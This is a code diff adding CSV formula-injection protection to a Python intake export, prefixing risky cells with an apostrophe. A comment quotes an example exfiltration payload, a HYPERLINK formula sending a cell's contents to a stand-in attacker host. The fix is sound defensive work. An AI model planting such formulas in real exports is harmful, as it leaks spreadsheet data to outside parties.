@@ -88,8 +88,22 @@ def as_csv(exported: dict[str, Any], db: Database) -> str:
     writer.writeheader()
     for row in exported["answers"]:
         question = questionnaire.question(row["question"])
-        writer.writerow({**row, "value": intake_fields.flat(question, row["value"])})
+        cells = {**row, "value": intake_fields.flat(question, row["value"])}
+        writer.writerow({name: _inert(value) for name, value in cells.items()})
     return out.getvalue()
+
+
+# A cell a spreadsheet would read as a formula: the client typed the answers, and the team
+# opens this file in Excel or Sheets (`=HYPERLINK("https://evil.example/?"&A1, "Brief")`).
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _inert(value: Any) -> Any:
+    """The cell as text a spreadsheet shows and does not run (OWASP's leading apostrophe; a
+    phone number +44… stays text too, rather than a number that loses its +)."""
+    if isinstance(value, str) and value.startswith(_FORMULA_START):
+        return "'" + value
+    return value
 
 
 @intake_cli.command("export")
